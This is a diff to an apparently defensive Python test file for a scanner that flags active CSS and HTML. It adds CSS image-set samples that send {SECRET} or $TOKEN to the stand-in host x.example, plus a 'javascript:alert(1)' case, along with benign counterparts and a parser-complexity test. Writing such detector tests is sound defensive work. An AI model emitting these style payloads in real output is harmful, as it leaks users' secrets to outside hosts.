@@ -137,6 +137,12 @@ STYLES = {  # a stylesheet rules the whole page; a renderer fetches what CSS nam
     "comment inside the url": '<div style="background:url(/**/https://x.example/p?d=%s)">x</div>',
     "references in the attribute": '<div style="background:url(&quot;https://x.example/?d=&#123;S&#125;&quot;)">x</div>',
     "image set": "<div style=\"background:-webkit-image-set('https://x.example/{SECRET}.png' 1x)\">x</div>",
+    "image set, the second address": "<div style=\"background:image-set('a.png' 1x, 'https://x.example/{SECRET}.png'"
+                                     " 2x)\">x</div>",
+    "image set, after a parenthesis in a string": "<div style=\"background:image-set('a).png' 1x,"
+                                                  " &quot;https://x.example/?d=$TOKEN&quot; 2x)\">x</div>",
+    "image set with types": "<div style=\"background:image-set('a.avif' type('image/avif'),"
+                            " 'javascript:alert(1)' type('image/png'))\">x</div>",
     "css expression": '<div style="width: expression(alert(1))">x</div>',
 }
 
@@ -191,6 +197,8 @@ ORDINARY = {
     "style attributes": '<p align="center" style="color:#555; text-align:center">x</p>'
                         '<div style="scroll-behavior: smooth; background: url(https://example.com/bg.png)">y</div>',
     "jsx style": "<div style={{backgroundImage:`url(${img})`}} className=\"hero\">x</div>",
+    "image set of plain addresses": "<div style=\"background:image-set('a.png' 1x, 'https://example.com/b.png' 2x,"
+                                    " url(c.png) 3x)\">x</div>",
     "style element in a fence": "```vue\n<style scoped>\n.x { color: red }\n</style>\n```",
     "icon link": '<link rel="icon" href="https://example.com/favicon.ico">',
     "tags named like style": "Follow <style-guide> and <styles> in the docs.",
@@ -246,6 +254,24 @@ def test_each_url_label_and_tag_is_judged_a_bounded_number_of_times(unit: str, m
 
     small, large = characters(20_000), characters(200_000)
     assert large <= 12 * small and large <= 3 * 200_000, (small, large)
+
+
+@pytest.mark.parametrize("css", ["image-set(" * 20_000 + "'a'", "image-set('a' 1x) " * 20_000,
+                                 "image-set(image-set(" * 10_000 + "'{x}'" + ")" * 20_000])
+def test_the_arguments_of_image_sets_are_read_once(css: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Counted, not timed: thousands of image-sets, never closed or nested, have their
+    arguments read once in all, not each to the end of the text."""
+    read = [0]
+    whole = active_module._image_set_strings
+
+    def counting(text: str, start: int, found: list[str]) -> int:
+        end = whole(text, start, found)
+        read[0] += end - start
+        return end
+
+    monkeypatch.setattr(active_module, "_image_set_strings", counting)
+    acts = active_module.css_acts(css)
+    assert read[0] <= len(css) and acts == ("{x}" in css)
 
 
 # --- real material: review payloads and sessions ------------------------------------------------
